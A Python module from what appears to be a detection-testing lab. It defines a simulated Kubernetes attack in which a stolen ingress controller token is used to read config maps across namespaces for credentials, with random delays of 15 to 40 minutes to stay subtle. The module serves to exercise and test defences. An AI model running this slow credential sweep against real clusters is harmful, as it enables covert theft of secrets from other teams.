"""Attack: controller walks through everybody's configuration.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="configmap-walk",
    title="Controller walks through everybody's configuration",
    technique=base.Technique(id="T1552.001", name="Credentials In Files", tactic="Credential Access"),
    use_case=vocabulary.UseCase.DISCOVERY,
    subtlety=base.Subtlety.SUBTLE,
    does=(
        "With the ingress controller's token, address and client, reads the config maps of one team after the "
        "other, a few an hour, for half a day."
    ),
    seen_by=("The controller reads its own config map; over hours the number of different namespaces and names grows."),
    cleans_up="Leaves nothing behind: it only reads.",
    victim=base.Part.INGRESS,
    reach=base.Reach.CLUSTER,
    lasts_s=60000.0,
    catalogues=("Microsoft: Application credentials in configuration files",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.INGRESS, able=("GET", paths.core("configmaps", "", "a")))
    thief = ctx.act_as(victim)
    maps = [
        found
        for space in ctx.namespaces()
        for found in ctx.known(paths.core("configmaps", space))
        if found[1] != "kube-root-ca.crt"
    ]
    ctx.rng.shuffle(maps)
    for namespace, name in maps[:24]:
        yield thief.get(paths.core("configmaps", namespace, name), after_s=ctx.rng.uniform(900.0, 2400.0))


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
